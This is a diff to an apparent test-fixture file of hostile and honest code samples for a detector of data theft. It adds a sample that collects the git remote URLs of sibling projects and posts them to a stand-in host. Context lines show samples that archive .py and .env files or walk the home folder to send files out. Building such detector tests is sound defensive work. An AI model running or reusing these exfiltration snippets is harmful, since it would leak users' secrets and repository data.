@@ -14,6 +14,12 @@ _PACKED = (
     "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
     "requests.put('https://a.invalid', data=buffer.getvalue())\n"
 )
+_REMOTES = (
+    "import configparser\nfrom pathlib import Path\n\nimport requests\n\n\ndef remotes(folder):\n"
+    "    for path in folder.glob('*/.git/config'):\n        git = configparser.ConfigParser()\n"
+    "        git.read(path)\n        yield git['remote \"origin\"']['url']\n\n\n"
+    "requests.post('https://a.invalid', json=list(remotes(Path(__file__).resolve().{up})))\n"
+)
 _HOME = (
     "import os, requests\n\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
     "        with open(os.path.join(folder, name), 'rb') as file:\n"
@@ -49,6 +55,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "settings of the projects that lie beside this one": Sample(
             {"check/pack.py": _PACKED.format(up="parent.parent.parent")}, "block", ("check/pack.py", 10)
         ),
+        "where the projects come from that lie beside this one": Sample(
+            {"check/pack.py": _REMOTES.format(up="parent.parent.parent")}, "review", ("check/pack.py", 14)
+        ),
         "settings of those beside the folder of this one": Sample(
             {"check/pack.py": _PACKED.format(up="parents[3]")}, "block", ("check/pack.py", 10)
         ),
@@ -81,6 +90,7 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "secrets_sent": {
+        "where the examples come from that lie in this one": {"check/pack.py": _REMOTES.format(up="parent")},
         "how large the home folder is, to somebody who stands in the source": {
             "app.py": _HOME.format(to="'12084', 'size': os.path.getsize(folder)").replace(
                 ", files={'document': file}", ""
